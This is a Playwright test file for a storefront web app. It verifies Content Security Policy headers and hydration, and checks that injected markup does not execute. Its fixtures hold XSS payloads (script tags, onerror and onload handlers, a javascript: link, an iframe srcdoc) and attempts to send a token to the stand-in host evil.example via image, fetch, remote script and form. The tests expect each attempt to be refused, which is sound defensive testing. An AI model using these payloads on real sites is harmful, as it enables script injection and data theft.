import { expect, test as unwatched } from '@playwright/test'
import type { APIRequestContext, Page } from '@playwright/test'
import { test } from './enforce-csp.ts'
import { callAs, publish } from './own-publication.ts'
import { signIn } from './sign-in.ts'
import { entries, largeCategory, pricedProduct, untilHydrated } from './storefront-world.ts'

const SHOP = 'demo-publico'
const ATTACK =
  '</script><script>window.hacked="text"</script><img src=x onerror="window.hacked=1"><svg/onload=hacked=2>'

declare global {
  interface Window {
    hacked?: unknown
  }
}

/** One page of every kind. */
async function addresses(request: APIRequestContext): Promise<string[]> {
  const { catalogId, customListId } = await entries(request, SHOP)
  const product = await pricedProduct(request, SHOP, 0)
  return [
    '/',
    '/no/existe',
    '/p/no-existe',
    '/login',
    '/admin/profile',
    ...[
      '',
      `/c/${catalogId}`,
      `/cl/${customListId}`,
      `/cy/${product.categoryId}`,
      `/prod/${product.id}`,
      '/prod/999999999',
      '/cart',
      '/orders',
      '/quick-order',
      '/search?query=codo',
    ].map((path) => `/p/${SHOP}${path}`),
  ]
}

test('pages may load from and connect to this server only, and run only scripts of the build', async ({
  request,
}) => {
  const own = new URL((await request.get('/')).url()).origin
  const policies = new Map<string, string>()
  for (const address of await addresses(request)) {
    const answer = await request.get(address, { headers: { accept: 'text/html' } })
    const policy = answer.headers()['content-security-policy'] ?? ''
    policies.set(address, policy)
    const rules = new Map(policy.split('; ').map((rule) => [rule.split(' ', 1)[0], rule]))
    expect(rules.get('default-src'), address).toBe("default-src 'self'")
    expect(rules.get('script-src'), address).toMatch(/^script-src 'self'( 'sha256-[\w+/]{43}=')+$/)
    expect(rules.get('connect-src'), address).toBe(`connect-src 'self' ${own}`)
    expect(rules.get('img-src'), address).toBe("img-src 'self' data:")
    expect(rules.get('report-uri'), address).toBe('report-uri /api/csp-reports')
    const isBackOffice = /^\/(admin|login)/.test(address)
    expect(rules.get('style-src')?.includes('unsafe-inline'), address).toBe(isBackOffice)
    // Pages differ only in their data, not in their scripts.
    const scripts = (await answer.text()).match(/<script(?![^>]*application\/json)[^>]*>/g)
    // Those of a link also record early taps.
    expect(scripts, address).toHaveLength(address.startsWith(`/p/${SHOP}`) ? 5 : 4)
  }
  const product = policies.get(`/p/${SHOP}/prod/999999999`)
  expect([...policies].find(([address]) => /prod\/\d{1,8}$/.test(address))?.[1]).toBe(product)
})

test('pages of every kind hydrate under their policy', async ({ page, request }) => {
  test.slow()
  for (const address of await addresses(request)) {
    await page.goto(address)
    await page.waitForLoadState('networkidle')
    const isAlive = () => page.evaluate(() => Object.keys(document).some((key) => key.startsWith('__react')))
    await expect.poll(isAlive, { message: address }).toBe(true)
  }
})

test('names, descriptions and notes are shown as plain text, whatever they contain', async ({
  page,
  request,
}) => {
  test.slow()
  const owner = await callAs(request, 'mayoreo')
  const stamp = String(Date.now())
  const { id: categoryId } = await owner.post<{ id: number }>('/api/categories', {
    name: `Ataque ${stamp} ${ATTACK}`,
    motherId: null,
    catalogIds: (await owner.get<{ content: { id: number }[] }>('/api/catalogs')).content.map(({ id }) => id),
  })
  const { id: productId } = await owner.post<{ id: number }>('/api/products', {
    code: `ATAQUE-${stamp}`,
    name: `Codo ${stamp} ${ATTACK}`,
    description: ATTACK,
    basePrice: 10,
    categoryIds: [categoryId],
    tagIds: [],
    competitorLinks: [],
  })
  const { id: publicationId, permalink } = await publish(owner, `Nota ${ATTACK}`)
  const shown = `Codo ${stamp} ${ATTACK}`
  // A search indexes what was saved for at most half a second (search.md §14), which is too short on a busy machine.
  const results = `/p/${permalink}/search?query=ATAQUE-${stamp}`
  await expect.poll(async () => (await request.get(results)).text()).toContain(`Codo ${stamp}`)
  for (const path of [`/prod/${productId}`, `/cy/${categoryId}`, `/search?query=ATAQUE-${stamp}`]) {
    await page.goto(`/p/${permalink}${path}`)
    await expect(page.getByText(shown).first(), path).toBeVisible()
    expect(await page.evaluate(() => window.hacked), path).toBeUndefined()
  }
  await signIn(page, 'mayoreo')
  for (const path of [
    `products/${productId}/edit`,
    `categories/${categoryId}/edit`,
    'categories',
    `products?searchValue=ATAQUE-${stamp}`,
    `publications/${publicationId}/edit`,
    'publications',
  ]) {
    await page.goto(`/admin/${path}`)
    await page.waitForLoadState('networkidle')
    expect(await page.evaluate(() => window.hacked), path).toBeUndefined()
  }
})

test('a page whose HTML was altered on the way still hydrates', async ({ page, request }) => {
  const { id, name } = await largeCategory(request, SHOP)
  await page.route('**/*', async (route) => {
    if (route.request().resourceType() !== 'document') return route.continue()
    const answer = await route.fetch()
    return route.fulfill({
      response: answer,
      body: (await answer.text()).replaceAll('</main>', '<h2>Otro</h2></main>'),
    })
  })
  await page.goto(`/p/${SHOP}/cy/${id}`)
  // React renders the whole page again, including its scripts.
  await expect(page.getByRole('heading', { name: 'Otro' })).toBeHidden()
  await expect(page.getByRole('heading', { name }).first()).toBeVisible()
  await untilHydrated(page)
  await page.getByRole('button', { name: 'Menú' }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
})

// These do what the policy forbids, so violations are expected.
for (const address of [`/p/${SHOP}`, '/login']) {
  unwatched(
    `what is brought into ${address} from outside does not run and tells nobody`,
    async ({ page, request }) => {
      const { id } = await largeCategory(request, SHOP)
      const path = address === '/login' ? address : `${address}/cy/${id}`
      await page.route('**/*', async (route) => {
        if (route.request().resourceType() !== 'document') return route.continue()
        const answer = await route.fetch()
        const html = (await answer.text()).replace('<body>', `<body>${FOREIGN}`)
        return route.fulfill({ response: answer, body: html })
      })
      const violations: string[] = []
      page.on('console', (message) => {
        if (message.text().includes('Content Security Policy')) violations.push(message.text())
      })
      await page.goto(path)
      await page.waitForLoadState('networkidle')
      expect(await outcomes(page)).toEqual({
        hacked: undefined,
        markup: 'refused',
        fetch: 'refused',
        picture: 'refused',
        form: 'refused',
        remote: 'refused',
      })
      await expect.poll(() => violations.length).toBeGreaterThan(4)
    },
  )
}

const FOREIGN =
  '<base href="https://evil.example/"><script>window.hacked=1</script><script type="module">window.hacked=2</script>' +
  '<img src="x" onerror="window.hacked=3"><iframe srcdoc="<script>parent.hacked=4</script>"></iframe>' +
  '<a href="javascript:window.hacked=5" id="foreign">x</a>' +
  '<script>window.__reactRouterContext.streamController.enqueue("[1]");</script>'

/** The outcomes of several ways to send a stolen token elsewhere. */
function outcomes(page: Page) {
  return page.evaluate(async () => {
    const outside = 'https://evil.example/'
    const wait = (what: EventTarget, good: string) =>
      new Promise<string>((done) => {
        what.addEventListener(good, () => done('done'))
        what.addEventListener('error', () => done('refused'))
      })
    const attempt = (act: () => void) => {
      try {
        act()
        return 'done'
      } catch {
        return 'refused'
      }
    }
    const script = document.createElement('script')
    script.append('window.hacked = 6')
    document.body.append(script)
    const markup = attempt(() => {
      document.body.innerHTML = '<img src="x" onerror="window.hacked = 7">'
    })
    document.querySelector<HTMLElement>('#foreign')?.click()
    const picture = new Image()
    const pictureOutcome = wait(picture, 'load')
    picture.src = `${outside}?token=1`
    const remote = attempt(() => {
      document.createElement('script').src = `${outside}x.js`
    })
    const form = document.createElement('form')
    const formOutcome = new Promise<string>((done) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        if (effectiveDirective === 'form-action') done('refused')
      })
    })
    form.action = outside
    document.body.append(form)
    form.submit()
    return {
      markup,
      fetch: await fetch(outside, { mode: 'no-cors' }).then(
        () => 'done',
        () => 'refused',
      ),
      picture: await pictureOutcome,
      remote,
      form: await formOutcome,
      hacked: window.hacked,
    }
  })
}
